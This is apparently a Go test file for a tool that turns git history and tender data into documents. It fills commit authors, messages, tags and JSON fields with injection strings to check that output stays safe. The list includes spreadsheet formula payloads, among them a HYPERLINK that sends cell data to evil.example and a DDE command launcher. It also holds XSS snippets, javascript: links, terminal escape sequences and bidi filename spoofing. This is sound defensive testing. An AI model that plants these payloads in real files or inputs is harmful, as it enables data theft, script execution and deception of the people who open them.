package command_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing"
	"github.com/go-git/go-git/v5/plumbing/object"
	"github.com/stretchr/testify/require"
)

// hostile are texts with which strangers try to steer whatever shows them: spreadsheets,
// browsers, terminals, and readers that look for a word of the result.
var hostile = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"click")`, `=cmd|'/c calc'!A0`, "+1+1|x", "-2+3|x", "@SUM(1+1)", "\t=1+1", "\r=1+1", "'=1+1",
	"\uff1d1+1", "\u200b=1+1", "\ufeff=1+1",
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg onload=alert(1)>`, `</script><script>alert(2)</script>`, `</title></style><iframe>`,
	`[click](javascript:alert(1))`, `javascript:alert(1)`, "data:text/html,<b>x", "]]>", "<!--", "&lt;b&gt;&#0;",
	"\u202egnp.exe\u202c", "\u2066x\u2069\u200f", "nul\x00byte", "esc\x1b[2J\x1b[31mape", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "bell\a\b\x7f", "c1\u009b31m\u0085\u2028",
	"\xff\xfe broken \xc3\x28", "\ufffe\uffff", `a","b";"c`, "a\";=1+1;\"", `_x0041_=1+1`, "_x000D_", "%s%d%!n", "{{.}}", "| a | b |", "# heading", "`code`",
	"SIMULATION", "OFFICIAL: sealed", "fine\nOFFICIAL: sealed\n\nSIMULATION", strings.Repeat("long ", 20_000), strings.Repeat("é", 100_000),
}

// documentary are those that a document may hold: what has control characters or is no
// UTF-8 it refuses, and whoever reads a word of a table looks for no line.
func documentary() (list []string) {
	for _, s := range hostile {
		if !strings.ContainsFunc(s, func(r rune) bool { return r < ' ' && r != '\n' && r != '\t' || r >= 0x7f && r < 0xa0 }) && strings.ToValidUTF8(s, "") == s {
			list = append(list, s)
		}
	}
	return list
}

// labels are names that a document may use where it wants no space: of bidders, projects and lots.
var labels = []string{"=1+1", "+2+2", "-3+3", "@SUM(A1)", "<img/src=x/onerror=alert(1)>", "javascript:alert(1)", `"x","y"`, "]]>", "_x0041_", "OFFICIAL", "plain", strings.Repeat("x", 1000)}

// raw writes a repository object by object, with bytes that no honest program writes.
type raw struct {
	t    *testing.T
	repo *git.Repository
	head plumbing.Hash
	tree []object.TreeEntry
	at   time.Time
	refs strings.Builder
}

func newRaw(t *testing.T, dir string) *raw {
	repo, err := git.PlainInit(dir, true)
	require.NoError(t, err)
	return &raw{t: t, repo: repo, at: time.Date(2025, 1, 6, 12, 0, 0, 0, time.UTC)}
}

func (r *raw) put(kind plumbing.ObjectType, b []byte) plumbing.Hash {
	o := r.repo.Storer.NewEncodedObject()
	o.SetType(kind)
	w, err := o.Writer()
	require.NoError(r.t, err)
	_, err = w.Write(b)
	require.NoError(r.t, err)
	require.NoError(r.t, w.Close())
	h, err := r.repo.Storer.SetEncodedObject(o)
	require.NoError(r.t, err)
	return h
}

// line takes out of a text what would end a line of an object.
func line(s string) string { return strings.NewReplacer("\n", " ", "\x00", "\ufffd").Replace(s) }

// commit adds a file of a name and lines, on the day after the one before.
func (r *raw) commit(author, committer, message, file string, n int) {
	var text bytes.Buffer
	for i := range 12 {
		fmt.Fprintf(&text, "line %d of %d\n", i, n)
	}
	entry := object.TreeEntry{Name: strings.NewReplacer("/", "_", "\x00", "_").Replace(file), Mode: 0o100644, Hash: r.put(plumbing.BlobObject, text.Bytes())}
	if r.head == (plumbing.Hash{}) {
		r.tree = append(r.tree, object.TreeEntry{Name: "MAINTAINERS", Mode: 0o100644, Hash: r.put(plumbing.BlobObject, []byte("M: "+author+"\nM: "+committer+"\n"))})
	}
	at := 0
	for at < len(r.tree) && r.tree[at].Name < entry.Name {
		at++
	}
	r.tree = append(r.tree[:at:at], append([]object.TreeEntry{entry}, r.tree[at:]...)...)
	var tree, c bytes.Buffer
	for _, e := range r.tree {
		fmt.Fprintf(&tree, "100644 %s\x00%s", e.Name, e.Hash[:])
	}
	fmt.Fprintf(&c, "tree %s\n", r.put(plumbing.TreeObject, tree.Bytes()))
	if r.head != (plumbing.Hash{}) {
		fmt.Fprintf(&c, "parent %s\n", r.head)
	}
	r.at = r.at.AddDate(0, 0, 1)
	fmt.Fprintf(&c, "author %s %d +0000\ncommitter %s %[2]d +0000\n\n%[4]s\n", author, r.at.Unix(), committer, message)
	r.head = r.put(plumbing.CommitObject, c.Bytes())
}

func (r *raw) tag(name, tagger, message string) {
	var b bytes.Buffer
	fmt.Fprintf(&b, "object %s\ntype commit\ntag %s\ntagger %s %d +0000\n\n%s\n", r.head, line(name), tagger, r.at.Unix(), message)
	h := r.put(plumbing.TagObject, b.Bytes())
	fmt.Fprintf(&r.refs, "%s refs/tags/%s\n^%s\n", h, strings.NewReplacer(" ", "_", "\n", "_", "\x00", "_").Replace(name), r.head)
}

func (r *raw) close(dir string) {
	r.refs.WriteString(r.head.String() + " refs/heads/main\n")
	require.NoError(r.t, os.WriteFile(filepath.Join(dir, "packed-refs"), []byte(r.refs.String()), 0o644))
	require.NoError(r.t, os.WriteFile(filepath.Join(dir, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
}

// hostileStory writes a tender in which every text of a stranger is hostile, on two repositories that
// are alike, and returns its document. With a gap one more of each is named, which is not there.
func hostileStory(t *testing.T, gap bool) string {
	t.Helper()
	dir := t.TempDir()
	r := newRaw(t, filepath.Join(dir, "a.git"))
	domains := []string{"karst", "bigco", "nobody", "karst", "=1", "bigco", "+1", "-1", "karst", "<script>alert(1)</script>", "\u202egnp", "\"x", "\x1b[31m", "javascript:alert(1)"}
	who := func(i int) string {
		i %= len(hostile)
		name, domain := line(hostile[i]), domains[i%len(domains)]
		if len(name) > 1000 {
			return name[:1000] + " <long@" + domain + ".example>"
		}
		return fmt.Sprintf("%s <%s%d@%s.example>", name, strings.Map(func(r rune) rune {
			if r <= ' ' || r == '<' || r == '>' || r == '@' {
				return '.'
			}
			return r
		}, name), i, domain)
	}
	for round := range 3 {
		for i, s := range hostile {
			message := fmt.Sprintf("%s\n\n%s\n\nReviewed-by: %s\nReported-by: %s", s, s, who(i+2), who(i+3))
			r.commit(who(i), who(i+1), message, fmt.Sprintf("%.200s.%d.go", s, round), round*1000+i)
			if round == 0 && len(s) < 200 {
				r.tag(s, who(i+1), s)
			}
		}
	}
	r.close(filepath.Join(dir, "a.git"))
	require.NoError(t, os.CopyFS(filepath.Join(dir, "b.git"), os.DirFS(filepath.Join(dir, "a.git"))))
	file := filepath.Join(dir, "tender.json")
	b, err := json.Marshal(hostileDocument(r.head.String(), gap))
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(file, b, 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "people.json"), []byte(`{"format": "tributary-people/1", "people": [
		{"id": "=1+1", "identities": ["mail:long@nobody.example"], "employment": [{"vendor": "karst", "level": "domain", "source": "=1+1 <script>alert(1)</script>"}]}]}`), 0o644))
	return file
}

// hostileDocument is the tender of the story.
func hostileDocument(commit string, gap bool) map[string]any {
	texts := documentary()
	next := 0
	text := func() string { next++; return texts[next%len(texts)] }
	var lots, bidders, decisions []any
	projects, vendors := map[string]any{}, map[string]any{}
	for i, l := range labels {
		p := map[string]any{"repositories": []any{map[string]any{"url": string(rune('a'+i)) + ".git", "forge": "none", "branches": []string{"main"}}},
			"thresholds": map[string]any{"changes": 90, "reviews": 60, "integration": 110, "releases": 3, "ports": "none", "upkeep": "none", "security": "none", "triage": "none"}}
		if i < 2 { // each project takes its time
			p["accept"] = []any{map[string]any{"kind": "triage", "reason": text()}}
			p["justify"] = []any{map[string]any{"indicator": "changes", "reason": text()}}
			projects[l] = p
			if gap {
				p["repositories"] = append(p["repositories"].([]any), map[string]any{"url": fmt.Sprintf("not-there-%d.git", i), "forge": "none"})
			}
		}
		if i < 3 {
			lots = append(lots, map[string]any{"id": l, "title": text(), "projects": map[string]any{labels[0]: 1, labels[1]: 0.5}})
		}
		v := map[string]any{"name": text()}
		name := fmt.Sprintf("v%d", i)
		if i < 2 {
			name = []string{"karst", "bigco"}[i]
			v["domains"] = []any{map[string]any{"name": name + ".example"}}
		}
		vendors[name] = v
		bidders = append(bidders, map[string]any{"id": l, "vendors": []string{name}})
	}
	for i, s := range texts {
		d := map[string]any{"id": fmt.Sprintf("%s%d", labels[i%len(labels)], i), "on": fmt.Sprintf("change:%d", i), "decide": "refuse", "reason": s, "by": s, "at": "2025-12-01",
			"objection": map[string]any{"by": s, "at": "2025-11-01", "text": s}}
		if i == 0 {
			d["on"], d["decide"], d["rule"] = "commit:"+commit, "count", "cap"
		}
		decisions = append(decisions, d)
	}
	return map[string]any{"format": "tributary/1", "tender": map[string]any{"id": text(), "title": text(), "buyer": text()}, "shortlist": true,
		"window": map[string]any{"until": "2026-01-01", "months": 12}, "evidence": "domain", "projects": projects, "lots": lots, "vendors": vendors,
		"rosters": []any{map[string]any{"file": "people.json", "format": "tributary"}}, "bidders": bidders, "decisions": decisions}
}
